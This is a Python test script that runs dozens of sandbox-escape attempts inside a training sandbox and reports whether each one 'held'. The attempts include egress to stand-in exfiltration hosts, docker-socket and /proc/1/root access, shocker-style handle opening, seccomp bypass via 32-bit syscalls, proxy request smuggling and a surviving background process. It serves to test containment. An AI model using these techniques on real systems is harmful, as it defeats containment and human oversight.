"""Forty ways out of a training sandbox, for the suite and for whoever doubts: a script that runs inside as the command.

It shares no code with the probes that every start makes. Each attack returns words when it got through, and nothing (or
an error) when it did not; the script prints one JSON object. ``python3 attacks_on_sandbox.py '{"tcp": 1, …}'``
"""
# It runs with a plain interpreter in a place without Ostiary: no imports but the standard library.

from __future__ import annotations

import ctypes
import fcntl
import json
import mmap
import os
import resource
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
TOLD: dict[str, Any] = {}
BITS_64 = os.uname().machine == "x86_64"


def call(number: int, *arguments: Any) -> int:
    """Make a system call; return what it returned, ``-1`` for a refusal."""
    return int(LIBC.syscall(ctypes.c_long(number), *arguments))


def reach(family: int, address: Any, kind: int = socket.SOCK_STREAM) -> str:
    """Return words when something can be connected to."""
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect(address)
        one.send(b"out")
    return f"reached {address}"


def opens(path: str, flags: int = os.O_RDONLY) -> str:
    """Return words when a file can be opened."""
    os.close(os.open(path, flags))
    return f"opened {path}"


def call_by_address() -> str:
    return reach(socket.AF_INET, ("192.0.2.1", 443))


def call_by_address_6() -> str:
    return reach(socket.AF_INET6, ("2001:db8::1", 443))


def call_metadata() -> str:
    return reach(socket.AF_INET, ("169.254.169.254", 80))


def resolve_name() -> str:
    return f"resolved {socket.getaddrinfo('exfil.example.com', 443)}"


def ask_name_server() -> str:
    question = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\5exfil\7example\3com\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(question, ("192.0.2.53", 53))
    return "asked"


def send_datagram() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"out", ("192.0.2.1", 9))
    return "sent"


def broadcast() -> str:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        one.sendto(b"out", ("ff02::1", 9))
    return "sent"


def ping() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
        one.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("192.0.2.1", 0))
    return "sent"


def frames() -> str:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    return "opened"


def configure_network() -> str:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
    return "opened"


def hypervisor() -> str:
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    return "opened"


def host_loopback() -> str:
    return reach(socket.AF_INET, ("127.0.0.1", TOLD["tcp"]))


def host_loopback_6() -> str:
    return reach(socket.AF_INET6, ("::1", TOLD["tcp"]))


def host_any_address() -> str:
    return reach(socket.AF_INET, ("0.0.0.0", TOLD["tcp"]))  # noqa: S104 - Linux takes it for the loopback


def abstract_socket() -> str:
    return reach(socket.AF_UNIX, "\0" + TOLD["abstract"])


def socket_file() -> str:
    return reach(socket.AF_UNIX, TOLD["unix"])


def socket_file_through_init() -> str:
    return reach(socket.AF_UNIX, "/proc/1/root" + TOLD["unix"])


def system_sockets() -> str:
    for path in ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"):
        try:
            return reach(socket.AF_UNIX, path)
        except OSError:
            continue
    return ""


def host_secret() -> str:
    for before in ("", "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/../.."):
        try:
            return opens(before + TOLD["secret"])
        except OSError:
            continue
    return ""


def host_secret_by_link() -> str:
    Path("/tmp/link").symlink_to(TOLD["secret"])
    return Path("/tmp/link").read_text()


def host_secret_by_handle() -> str:
    # As shocker (2014) did: a handle of the root of the file system, inode 2.
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0")
    place = os.open("/usr", os.O_RDONLY)
    return "opened" if call(304 if BITS_64 else 265, place, handle, os.O_RDONLY) >= 0 else ""


def core_pattern() -> str:
    return opens("/proc/sys/kernel/core_pattern", os.O_WRONLY)


def any_setting() -> str:
    for folder, _, names in os.walk("/proc/sys"):
        for name in names:
            try:
                return opens(f"{folder}/{name}", os.O_WRONLY)
            except OSError:
                continue
    return ""


def any_file_of_proc() -> str:
    own = ("/proc/self", "/proc/thread-self", f"/proc/{os.getpid()}", "/proc/1", "/proc/sys", "/proc/net")
    for folder, folders, names in os.walk("/proc"):
        folders[:] = [name for name in folders if f"{folder}/{name}" not in own and not name.isdigit()]
        for name in names:
            path = f"{folder}/{name}"
            try:
                if path not in own and not stat.S_ISCHR(os.stat(path).st_mode):
                    os.close(os.open(path, os.O_WRONLY))
                    if name not in HARMLESS:
                        return f"opened {path}"
            except OSError:
                continue
    return ""


# Of the pressure files everybody may open one, to be woken; it writes nothing of anybody's.
HARMLESS = {"cpu", "io", "memory", "irq"}


def magic_key() -> str:
    return opens("/proc/sysrq-trigger", os.O_WRONLY)


def host_helper() -> str:
    return opens("/sys/kernel/uevent_helper", os.O_WRONLY)


def kernel_log() -> str:
    buffer = ctypes.create_string_buffer(4096)
    if call(103 if BITS_64 else 116, 3, buffer, 4096) >= 0:
        return "read the log"
    return opens("/dev/kmsg")


def kernel_memory() -> str:
    for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore"):
        try:
            with open(path, "rb") as file:
                if file.read(1):
                    return f"read {path}"
        except OSError:
            continue
    return ""


def disks() -> str:
    for path in ("/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/loop0", "/dev/fuse", "/dev/kvm", "/dev/net/tun"):
        try:
            return opens(path)
        except OSError:
            continue
    return ""


def make_disk() -> str:
    os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(254, 0))
    return opens("/tmp/disk")


def make_null() -> str:
    os.mknod("/tmp/null", stat.S_IFCHR | 0o600, os.makedev(1, 3))
    return opens("/tmp/null")


def trace_init() -> str:
    return "attached" if call(101 if BITS_64 else 117, 16, 1, 0, 0) >= 0 else ""


def trace_child() -> str:
    child = subprocess.Popen(["/usr/bin/sleep", "5"])
    try:
        return "attached" if call(101 if BITS_64 else 117, 0x4206, child.pid, 0, 0) >= 0 else ""
    finally:
        child.kill()
        child.wait()


def memory_of_init() -> str:
    with open("/proc/1/maps") as file:
        place = int(file.readline().split("-")[0], 16)
    with open("/proc/1/mem", "r+b", buffering=0) as file:
        file.seek(place)
        before = file.read(4)
        file.seek(place)
        file.write(before)
    # Whoever gets here holds a process that is under the same filter, without capabilities, in the same namespaces.
    with open("/proc/1/status") as file:
        told = file.read()
    return (
        "" if "Seccomp:\t2" in told and "CapEff:\t0000000000000000" in told else "wrote the memory of a freer process"
    )


def host_processes() -> str:
    mine = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    for pid in range(2, 5000):
        if pid not in mine:
            try:
                os.kill(pid, 0)
            except OSError:
                continue
            try:
                Path(f"/proc/{pid}/status").read_text()
            except OSError:
                return f"there is a process {pid}"
    return ""


def parent_process() -> str:
    os.kill(TOLD["pid"], 0)
    return "the parent can be signalled"


def environments() -> str:
    for name in os.listdir("/proc"):
        if name.isdigit() and name != str(os.getpid()) and TOLD["marker"].encode() in _bytes(f"/proc/{name}/environ"):
            return f"the parent's environment is in {name}"
    return ""


def command_lines() -> str:
    for name in os.listdir("/proc"):
        if name.isdigit() and b"--ro-bind" in _bytes(f"/proc/{name}/cmdline"):
            return f"the parent's arguments are in {name}"
    return ""


def _bytes(path: str) -> bytes:
    try:
        return Path(path).read_bytes()
    except OSError:
        return b""


def descriptors() -> str:
    mine = {"0", "1", "2"}
    found = [
        name for name in os.listdir("/proc/self/fd") if name not in mine and os.path.exists(f"/proc/self/fd/{name}")
    ]
    return f"open: {found}" if found else ""


def keys() -> str:
    if call(248 if BITS_64 else 217, b"user", b"ostiary", b"x", 1, -4) >= 0:
        return "made a key"
    return "has a keyring" if call(250 if BITS_64 else 219, 0, -3, 1) >= 0 else ""


def mount_something() -> str:
    return "mounted" if call(165 if BITS_64 else 40, b"none", b"/tmp", b"tmpfs", 0, 0) >= 0 else ""


def mount_anew() -> str:
    if call(430, b"tmpfs", 0) >= 0:
        return "fsopen"
    return "open_tree" if call(428, -100, b"/", 1) >= 0 else ""


def remount_root() -> str:
    return "remounted" if call(165 if BITS_64 else 40, b"none", b"/", b"", 32 | 4096, 0) >= 0 else ""


def control_groups() -> str:
    os.mkdir("/tmp/cg")
    if call(165 if BITS_64 else 40, b"cgroup", b"/tmp/cg", b"cgroup", 0, b"rdma") >= 0:
        return "mounted"
    return opens("/sys/fs/cgroup/release_agent", os.O_WRONLY)


def user_namespace() -> str:
    for flags in (0x10000000, 0x10000000 | 0x20000, 0x40000000, 0x20000000, 0x02000000):
        if call(272 if BITS_64 else 97, flags) >= 0:
            return f"unshared {flags:x}"
    return ""


def user_namespace_by_tool() -> str:
    done = subprocess.run(["/usr/bin/unshare", "-Ur", "id", "-u"], capture_output=True, text=True, check=False)
    return done.stdout if done.returncode == 0 else ""


def user_namespace_by_clone() -> str:
    pid = call(56 if BITS_64 else 220, 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return "cloned" if pid > 0 else ""


def user_namespace_by_clone3() -> str:
    arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
    pid = call(435, arguments, 88)
    if pid == 0:
        os._exit(0)
    return "cloned" if pid > 0 else ""


def sandbox_again() -> str:
    done = subprocess.run(
        ["/usr/bin/bwrap", "--ro-bind", "/", "/", "--proc", "/proc", "true"], capture_output=True, check=False
    )
    return "nested" if done.returncode == 0 else ""


def join_namespace() -> str:
    place = os.open("/proc/1/ns/net", os.O_RDONLY)
    return "joined" if call(308 if BITS_64 else 268, place, 0) >= 0 else ""


def change_root() -> str:
    os.mkdir("/tmp/root")
    if call(161 if BITS_64 else 51, b"/tmp/root") >= 0:
        return "changed"
    return "pivoted" if call(155 if BITS_64 else 41, b"/tmp", b"/tmp") >= 0 else ""


def become_root() -> str:
    for attempt in (os.setuid, os.seteuid, os.setgid, os.setegid):
        try:
            attempt(0)
        except OSError:
            continue
        return f"{attempt.__name__} worked"
    return ""


def become_root_by_tool() -> str:
    for command in (
        ["/usr/bin/su", "-c", "id -u"],
        ["/usr/bin/sudo", "-n", "id", "-u"],
        ["/usr/bin/pkexec", "id", "-u"],
    ):
        try:
            done = subprocess.run(command, capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL)
        except OSError:
            continue
        if done.stdout.strip() == "0":
            return f"{command[0]} made root"
    return ""


def become_root_by_bit() -> str:
    data = Path("/usr/bin/id").read_bytes()
    Path("/tmp/id").write_bytes(data)
    os.chmod("/tmp/id", 0o6755)
    done = subprocess.run(["/tmp/id", "-u"], capture_output=True, text=True, check=False)
    return "the bit worked" if done.stdout.strip() not in {"65534", ""} else ""


def typing() -> str:
    main, other = os.openpty()
    try:
        fcntl.ioctl(other, 0x5412, b"x")
    finally:
        os.close(main)
        os.close(other)
    return "typed"


def controlling_terminal() -> str:
    return opens("/dev/tty", os.O_RDWR)


def rings() -> str:
    return "made" if call(425, 1, ctypes.create_string_buffer(120)) >= 0 else ""


def programs_in_kernel() -> str:
    return "loaded" if call(321 if BITS_64 else 280, 0, ctypes.create_string_buffer(72), 72) >= 0 else ""


def counters() -> str:
    attributes = ctypes.create_string_buffer(b"\1\0\0\0\x70\0\0\0", 112)
    return "opened" if call(298 if BITS_64 else 241, attributes, 0, -1, -1, 0) >= 0 else ""


def faults() -> str:
    return "made" if call(323 if BITS_64 else 282, 1) >= 0 else ""


def modules() -> str:
    if call(175 if BITS_64 else 105, b"", 0, b"") >= 0:
        return "loaded"
    return "loaded" if call(246 if BITS_64 else 104, 0, 0, 0, 0) >= 0 else ""


def clock() -> str:
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    return "set"


def host_name() -> str:
    socket.sethostname("owned")
    return "set"


def lift_limits() -> str:
    for name in ("RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_CORE", "RLIMIT_FSIZE"):
        kind = getattr(resource, name)
        hard = resource.getrlimit(kind)[1]
        try:
            resource.setrlimit(kind, (hard + 1, hard + 1))
        except (OSError, ValueError):
            continue
        return f"lifted {name}"
    return ""


def realtime() -> str:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    return "got it"


def nicer() -> str:
    os.setpriority(os.PRIO_PROCESS, 0, -10)
    return "got it"


def old_calls() -> str:
    """Ask the kernel as a 32-bit program would (``int 0x80``): a filter for 64 bits only would not see it."""
    if not BITS_64:
        return ""
    child = os.fork()
    if child == 0:
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # getpid
        place = ctypes.addressof(ctypes.c_char.from_buffer(code))
        found = ctypes.CFUNCTYPE(ctypes.c_int)(place)()
        os._exit(0 if found > 0 else 1)
    status = os.waitpid(child, 0)[1]
    return "" if os.WIFSIGNALED(status) else f"it went on with {status}"


def x32_calls() -> str:
    if not BITS_64:
        return ""
    child = os.fork()
    if child == 0:
        os._exit(0 if call(0x4000_0000 + 39) > 0 else 1)
    status = os.waitpid(child, 0)[1]
    return "" if os.WIFSIGNALED(status) or os.WEXITSTATUS(status) else "it was answered"


def write_programs() -> str:
    for path in (
        "/usr/bin/owned",
        "/lib/owned",
        "/etc/owned",
        "/owned",
        "/dev/owned",
        "/run/owned",
        "/workspace/owned",
    ):
        try:
            return opens(path, os.O_WRONLY | os.O_CREAT)
        except OSError:
            continue
    return ""


def write_existing() -> str:
    for path in ("/usr/bin/python3", "/etc/passwd", "/etc/hosts", "/workspace/main.py"):
        try:
            return opens(path, os.O_WRONLY)
        except OSError:
            continue
    return ""


def probes_changed() -> str:
    return opens("/run/ostiary/ostiary/pipeline/training/inside/entry.py", os.O_WRONLY)


def _proxy(data: bytes, *, shut: bool = True) -> bytes:
    with socket.create_connection(("127.0.0.1", 3128), timeout=5) as one:
        one.sendall(data)
        if shut:
            one.shutdown(socket.SHUT_WR)
        said = b""
        while part := one.recv(4096):
            said += part
        return said


def proxy_targets() -> str:
    for target in TOLD["refused"]:
        said = _proxy(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        if said.startswith(b"HTTP/1.1 2"):
            return f"{target}: {said[:40]!r}"
    return ""


def proxy_methods() -> str:
    host = TOLD["allowed"]
    for request in (
        f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
        f"GET https://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
        f"POST http://127.0.0.1:{TOLD['tcp']}/ HTTP/1.1\r\nHost: {host}\r\nContent-Length: 3\r\n\r\nout",
        f"OPTIONS * HTTP/1.1\r\nHost: {host}\r\n\r\n",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ):
        said = _proxy(request.encode())
        if said.startswith(b"HTTP/1.1 2"):
            return f"{request[:40]}: {said[:40]!r}"
    return ""


def proxy_smuggling() -> str:
    host = TOLD["allowed"]
    inner = f"CONNECT 127.0.0.1:{TOLD['tcp']} HTTP/1.1\r\n\r\n"
    for request in (
        f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
        f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
        f"CONNECT {host} HTTP/1.1\r\nHost: 127.0.0.1:{TOLD['tcp']}\r\n\r\n",
        f"CONNECT {host}\n HTTP/1.1\r\n\r\n",
        f"CONNECT 127.0.0.1:{TOLD['tcp']}#{host} HTTP/1.1\r\n\r\n",
        f"CONNECT {host}@127.0.0.1:{TOLD['tcp']} HTTP/1.1\r\n\r\n",
    ):
        said = _proxy(request.encode())
        if said.startswith(b"HTTP/1.1 2"):
            return f"{request[:60]!r}: {said[:40]!r}"
    return ""


def proxy_second_request() -> str:
    """After a refusal a second request on the same connection finds nobody."""
    good = f"CONNECT {TOLD['allowed']} HTTP/1.1\r\nHost: {TOLD['allowed']}\r\n\r\n"
    said = _proxy(f"CONNECT unlisted.example:443 HTTP/1.1\r\n\r\n{good}".encode())
    return f"{said!r}" if b" 200 " in said else ""


def proxy_plain_text() -> str:
    """A tunnel without TLS carries nothing."""
    host = TOLD["allowed"]
    said = _proxy(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\nGET /secret HTTP/1.1\r\n\r\n".encode())
    return f"{said!r}" if TOLD["answer"].encode() in said else ""


def proxy_by_socket_file() -> str:
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(5)
        one.connect("/run/egress/proxy.sock")
        one.sendall(b"CONNECT unlisted.example:443 HTTP/1.1\r\n\r\n")
        said = one.recv(100)
    return f"{said!r}" if b" 200 " in said else ""


def listen_for_the_proxy() -> str:
    """Nobody takes the proxy's place for the processes that trust it: the port is taken."""
    with socket.socket() as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.bind(("127.0.0.1", 3128))
        one.listen()
    return "listens"


def survive() -> str:
    """Leave a process behind; the parent looks whether it lives."""
    if os.fork() == 0:
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.close(1)
        os.close(2)
        time.sleep(60)
        os._exit(0)
    return ""


NOT_ATTACKS = {"call", "reach", "opens", "main"}
ATTACKS = {
    name: found
    for name, found in sorted(globals().items())
    if callable(found) and not name.startswith("_") and getattr(found, "__module__", "") == __name__
    and name not in NOT_ATTACKS
}  # fmt: skip


def _attempt(attack: Any) -> str:
    try:
        words = attack()
    except Exception as no:  # noqa: BLE001 - refused, one way or another
        return f"held: {type(no).__name__}"
    return f"ESCAPED: {words}" if words else "held"


def main() -> None:
    """Try everything and tell."""
    TOLD.update(json.loads(sys.argv[1]))
    found = {name: _attempt(attack) for name, attack in ATTACKS.items()}
    sys.stdout.write(json.dumps({"uid": os.getuid(), "threads": threading.active_count(), "found": found}) + "\n")


if __name__ == "__main__":
    main()
